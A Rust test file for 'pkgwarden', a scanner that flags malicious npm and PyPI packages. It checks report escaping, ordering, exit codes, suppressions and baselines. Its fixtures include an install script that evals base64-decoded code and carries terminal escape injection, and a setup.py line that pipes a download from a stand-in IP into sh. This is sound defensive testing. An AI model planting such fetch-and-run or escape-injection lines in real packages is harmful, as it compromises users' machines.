//! The reports a person and a CI job read: terminal escaping, colour, order, `--quiet`,
//! JSON Lines, a closed pipe, and the gate (`--select`/`--ignore`/`--min-confidence`,
//! `pkgwarden.toml`, suppressions, baselines) with the exit codes they give.

use crate::common::*;
use serde_json::Value;
use std::io::{BufRead, BufReader};
use std::path::Path;
use std::process::{Command, Stdio};

fn suspicious() -> Vec<u8> {
    gzip(&tar(&files(&fixture("npm/url-dependency")), "package/"))
}

/// An npm package whose install script runs decoded code on a line that also carries
/// terminal escape sequences (clear screen, retitle, conceal) and a NUL, and whose
/// file name holds an escape sequence too.
fn hostile() -> Vec<u8> {
    let script = "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString()); // \x1b[2J\x1b]0;owned\x07\x1b[8m\0hidden\n";
    let manifest = r#"{"name": "term-hostile", "version": "1.0.0",
  "scripts": {"postinstall": "node \u001b[2Jx.js"}}"#;
    gzip(&tar(
        &[
            ("package.json".to_string(), manifest.as_bytes().to_vec()),
            ("\x1b[2Jx.js".to_string(), script.as_bytes().to_vec()),
        ],
        "package/",
    ))
}

fn pkgwarden(dir: &Path, args: &[&str]) -> std::process::Output {
    Command::new(env!("CARGO_BIN_EXE_pkgwarden"))
        .current_dir(dir)
        .args(args)
        .env_remove("NO_COLOR")
        .output()
        .unwrap()
}

fn stdout(out: &std::process::Output) -> String {
    String::from_utf8_lossy(&out.stdout).into_owned()
}

#[test]
fn package_text_never_reaches_the_terminal_raw() {
    let dir = temp_folder("report-hostile", &[("term-hostile-1.0.0.tgz", hostile())]);
    for colour in ["never", "always"] {
        let out = pkgwarden(&dir, &["scan", "--color", colour, "-v", "."]);
        let text = stdout(&out);
        assert!(text.contains("MALICIOUS"), "{text}");
        assert!(text.contains("exec-decoded"), "{text}");
        // Only our own colour codes (ESC followed by `[` and digits and `m`) may appear.
        let raw: Vec<&str> = text
            .split('\x1b')
            .skip(1)
            .filter(|rest| {
                let code: String = rest.chars().take_while(|c| *c != 'm').collect();
                !(code.starts_with('[')
                    && code[1..].chars().all(|c| c.is_ascii_digit() || c == ';'))
            })
            .collect();
        assert!(
            raw.is_empty(),
            "raw escape sequences from the package: {raw:?}"
        );
        assert!(!text.contains('\0') && !text.contains('\x07'), "{text}");
        assert!(text.contains("\\x1b[2J"), "escapes are shown: {text}");
        assert!(text.contains("\\x1b[8mhidden"), "{text}");
    }
    // JSON keeps the text exact (escaped by JSON itself).
    let json = stdout(&pkgwarden(&dir, &["scan", "--format", "json", "."]));
    assert!(!json.contains('\x1b'));
    assert!(json.contains("\\u001b[2J"), "{json}");
}

#[test]
fn colour_only_when_asked_or_on_a_terminal() {
    let dir = temp_folder(
        "report-colour",
        &[("libpeshnx-0.1.tar.gz", libpeshnx_sdist())],
    );
    let piped = stdout(&pkgwarden(&dir, &["scan", "."]));
    assert!(!piped.contains('\x1b'), "{piped}");
    let always = stdout(&pkgwarden(&dir, &["scan", "--color", "always", "."]));
    assert!(always.starts_with("\x1b[1;31mMALICIOUS"), "{always}");
    let out = Command::new(env!("CARGO_BIN_EXE_pkgwarden"))
        .args(["scan", "--color", "never"])
        .arg(&dir)
        .output()
        .unwrap();
    assert!(!stdout(&out).contains('\x1b'));
}

#[test]
fn packages_come_worst_first_and_quiet_shows_only_flagged() {
    let dir = temp_folder(
        "report-order",
        &[
            ("a-fastcodec-2.3.0.tar.gz", fastcodec_sdist()),
            ("b-ui-kit-lite-1.0.0.tgz", suspicious()),
            ("c-libpeshnx-0.1.tar.gz", libpeshnx_sdist()),
        ],
    );
    let out = stdout(&pkgwarden(&dir, &["scan", "-v", "."]));
    let verdicts: Vec<&str> = out
        .lines()
        .filter(|l| !l.starts_with(' '))
        .filter_map(|l| l.split_whitespace().next())
        .filter(|w| ["MALICIOUS", "SUSPICIOUS", "CLEAN"].contains(w))
        .collect();
    assert_eq!(verdicts, ["MALICIOUS", "SUSPICIOUS", "CLEAN"], "{out}");
    assert!(
        out.contains("3 packages: 1 malicious, 1 suspicious, 1 clean"),
        "{out}"
    );
    let default = stdout(&pkgwarden(&dir, &["scan", "."]));
    assert!(
        !default.contains("CLEAN"),
        "clean packages need -v: {default}"
    );
    let quiet = stdout(&pkgwarden(&dir, &["scan", "--quiet", "."]));
    assert!(quiet.starts_with("MALICIOUS"), "{quiet}");
    assert!(quiet.contains("SUSPICIOUS"), "{quiet}");
    assert!(
        !quiet.contains("packages:"),
        "no summary with --quiet: {quiet}"
    );
}

#[test]
fn json_lines_stream_one_package_per_line_then_the_summary() {
    let dir = temp_folder(
        "report-jsonl",
        &[
            ("fastcodec-2.3.0.tar.gz", fastcodec_sdist()),
            ("libpeshnx-0.1.tar.gz", libpeshnx_sdist()),
        ],
    );
    let out = pkgwarden(&dir, &["scan", "--format", "jsonl", "."]);
    assert_eq!(out.status.code(), Some(1));
    let lines: Vec<Value> = stdout(&out)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines.len(), 3);
    assert!(lines[..2].iter().all(|l| l["kind"] == "package"));
    let last = &lines[2];
    assert_eq!(last["kind"], "summary");
    assert_eq!(last["packages"], 2);
    assert_eq!(last["malicious"], 1);
    let bad = lines.iter().find(|l| l["name"] == "libpeshnx").unwrap();
    assert_eq!(bad["sha256"].as_str().unwrap().len(), 64);
    assert_eq!(bad["size"], libpeshnx_sdist().len() as u64);
    let first = &bad["findings"][0];
    assert_eq!(first["severity"], "critical", "worst first: {bad}");
    assert_eq!(first["id"].as_str().unwrap().len(), 12);
    assert!(first["fingerprint"]
        .as_str()
        .unwrap()
        .starts_with(first["id"].as_str().unwrap()));
    assert_eq!(bad["reason"]["finding"], first["id"]);
    assert!(bad["story"][0]
        .as_str()
        .unwrap()
        .starts_with("at install time: downloads"));
}

#[test]
fn a_closed_pipe_ends_the_scan_quietly() {
    let copies: Vec<(String, Vec<u8>)> = (0..400)
        .map(|i| (format!("fastcodec-{i}.tar.gz"), fastcodec_sdist()))
        .collect();
    let named: Vec<(&str, Vec<u8>)> = copies
        .iter()
        .map(|(n, d)| (n.as_str(), d.clone()))
        .collect();
    let dir = temp_folder("report-pipe", &named);
    for format in ["jsonl", "text"] {
        let mut child = Command::new(env!("CARGO_BIN_EXE_pkgwarden"))
            .args(["scan", "-v", "--jobs", "1", "--format", format])
            .arg(&dir)
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let mut first = String::new();
        BufReader::new(child.stdout.take().unwrap())
            .read_line(&mut first)
            .unwrap();
        // The reader is gone: `| head -1`.
        let out = child.wait_with_output().unwrap();
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(!first.is_empty());
        assert!(!stderr.contains("panicked"), "{format}: {stderr}");
        assert!(
            stderr.is_empty(),
            "{format}: quiet on a closed pipe: {stderr}"
        );
        // Stopped early it is incomplete (2); finished first, it is clean (0).
        assert!(
            matches!(out.status.code(), Some(0) | Some(2)),
            "{format}: {:?}",
            out.status
        );
    }
}

/// The ids of a package's findings in a JSON report.
fn finding_ids(json: &str, name: &str) -> Vec<(String, String, String, String)> {
    let doc: Value = serde_json::from_str(json).unwrap();
    let p = doc["packages"]
        .as_array()
        .unwrap()
        .iter()
        .find(|p| p["name"] == name)
        .unwrap()
        .clone();
    p["findings"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            (
                f["rule"].as_str().unwrap().to_string(),
                f["file"].as_str().unwrap().to_string(),
                f["id"].as_str().unwrap().to_string(),
                f["fingerprint"].as_str().unwrap().to_string(),
            )
        })
        .collect()
}

#[test]
fn select_ignore_and_min_confidence_decide_what_counts() {
    let dir = temp_folder(
        "report-select",
        &[("libpeshnx-0.1.tar.gz", libpeshnx_sdist())],
    );
    assert_eq!(pkgwarden(&dir, &["scan", "."]).status.code(), Some(1));
    // Only the download rule counts: high, install time, high confidence: still malicious.
    let only = pkgwarden(
        &dir,
        &[
            "scan",
            "--select",
            "download-at-install",
            "--format",
            "json",
            ".",
        ],
    );
    let rules: Vec<String> = finding_ids(&stdout(&only), "libpeshnx")
        .into_iter()
        .map(|f| f.0)
        .collect();
    assert_eq!(rules, ["download-at-install"]);
    // A category selects all its rules; ignoring categories can make the package pass.
    let ignored = pkgwarden(
        &dir,
        &[
            "scan",
            "--ignore",
            "download,exec-downloaded,persistence,write-home,background-process",
            "--ignore",
            "dropper-chain,unasked-chain,install-hook,suspicious-endpoint",
            ".",
        ],
    );
    assert_eq!(ignored.status.code(), Some(0), "{}", stdout(&ignored));
    let unknown = pkgwarden(&dir, &["scan", "--ignore", "no-such-rule", "."]);
    assert_eq!(unknown.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&unknown.stderr).contains("no-such-rule"));
    let high = stdout(&pkgwarden(
        &dir,
        &["scan", "--min-confidence", "high", "--format", "json", "."],
    ));
    let doc: Value = serde_json::from_str(&high).unwrap();
    for f in doc["packages"][0]["findings"].as_array().unwrap() {
        assert_eq!(f["confidence"], "high", "{f}");
    }
}

#[test]
fn suppressions_need_a_reason_match_one_finding_and_expire() {
    let dir = temp_folder(
        "report-suppress",
        &[("libpeshnx-0.1.tar.gz", libpeshnx_sdist())],
    );
    let json = stdout(&pkgwarden(&dir, &["scan", "--format", "json", "."]));
    let findings = finding_ids(&json, "libpeshnx");
    // A config beside the inputs, not inside them: the scan's working folder is its parent.
    let work = temp_folder("report-suppress-work", &[]);
    let entries: String = findings
        .iter()
        .map(|(rule, file, id, _)| {
            format!(
                "[[suppress]]\npackage = \"libpeshnx\"\nversion = \"0.1\"\nrule = \"{rule}\"\nfile = \"{file}\"\nfingerprint = \"{id}\"\nreason = \"reviewed in a test\"\n\n"
            )
        })
        .collect();
    std::fs::write(work.join("pkgwarden.toml"), &entries).unwrap();
    let input = dir.to_str().unwrap();
    let all = pkgwarden(&work, &["scan", "-v", input]);
    assert_eq!(all.status.code(), Some(0), "{}", stdout(&all));
    assert!(stdout(&all).contains(&format!("{} finding(s) suppressed", findings.len())));
    // The same suppressions for another version do not apply.
    std::fs::write(
        work.join("pkgwarden.toml"),
        entries.replace("version = \"0.1\"", "version = \"0.2\""),
    )
    .unwrap();
    assert_eq!(pkgwarden(&work, &["scan", input]).status.code(), Some(1));
    // An expired suppression warns and counts again.
    std::fs::write(
        work.join("pkgwarden.toml"),
        entries.replace("reason = ", "expires = \"2020-01-01\"\nreason = "),
    )
    .unwrap();
    let expired = pkgwarden(&work, &["scan", input]);
    assert_eq!(expired.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&expired.stderr).contains("expired on 2020-01-01"));
    // No reason: a configuration error.
    std::fs::write(
        work.join("pkgwarden.toml"),
        entries.replace("reason = \"reviewed in a test\"", "reason = \"\""),
    )
    .unwrap();
    let missing = pkgwarden(&work, &["scan", input]);
    assert_eq!(missing.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&missing.stderr).contains("`reason` is required"));
}

#[test]
fn configuration_never_comes_from_a_scanned_package() {
    let dir = temp_folder(
        "report-inside",
        &[("libpeshnx-0.1.tar.gz", libpeshnx_sdist())],
    );
    std::fs::write(dir.join("pkgwarden.toml"), "ignore = [\"exec-downloaded\", \"dropper-chain\", \"unasked-chain\", \"download\", \"persistence\", \"write-home\"]\nfail-on = \"malicious\"\n").unwrap();
    // Scanning `.` from inside the folder finds the file above the inputs: refused.
    let out = pkgwarden(&dir, &["scan", "."]);
    assert_eq!(out.status.code(), Some(1), "{}", stdout(&out));
    assert!(String::from_utf8_lossy(&out.stderr).contains("is not used"));
    let named = pkgwarden(&dir, &["scan", "--config", "pkgwarden.toml", "."]);
    assert_eq!(named.status.code(), Some(2));
    // From outside, the same file is an ordinary configuration.
    let work = temp_folder("report-outside", &[]);
    std::fs::copy(dir.join("pkgwarden.toml"), work.join("pkgwarden.toml")).unwrap();
    std::fs::remove_file(dir.join("pkgwarden.toml")).unwrap();
    let used = pkgwarden(
        &work,
        &["scan", "--fail-on", "suspicious", dir.to_str().unwrap()],
    );
    assert_eq!(used.status.code(), Some(1), "flags win over the file");
    let clean = pkgwarden(&work, &["scan", dir.to_str().unwrap()]);
    assert_ne!(clean.status.code(), Some(101));
}

#[test]
fn a_baseline_fails_only_on_new_findings() {
    let dir = temp_folder(
        "report-baseline",
        &[("libpeshnx-0.1.tar.gz", libpeshnx_sdist())],
    );
    let work = temp_folder("report-baseline-work", &[]);
    let input = dir.to_str().unwrap();
    let written = pkgwarden(&work, &["scan", "--write-baseline", "base.json", input]);
    assert_eq!(
        written.status.code(),
        Some(1),
        "writing records, it does not excuse"
    );
    let base: Value =
        serde_json::from_str(&std::fs::read_to_string(work.join("base.json")).unwrap()).unwrap();
    assert!(!base["suppressions"].as_array().unwrap().is_empty());
    let again = pkgwarden(&work, &["scan", "--baseline", "base.json", input]);
    assert_eq!(again.status.code(), Some(0), "{}", stdout(&again));
    // New code in the package: its findings are new.
    let mut files = files(&fixture("pypi/libpeshnx-sdist"));
    for (name, data) in files.iter_mut() {
        if name == "setup.py" {
            data.extend_from_slice(b"\nimport os\nos.system('curl http://203.0.113.77/x | sh')\n");
        }
    }
    std::fs::write(
        dir.join("libpeshnx-0.1.tar.gz"),
        gzip(&tar(&files, "libpeshnx-0.1/")),
    )
    .unwrap();
    let changed = pkgwarden(&work, &["scan", "--baseline", "base.json", input]);
    assert_eq!(changed.status.code(), Some(1), "{}", stdout(&changed));
}
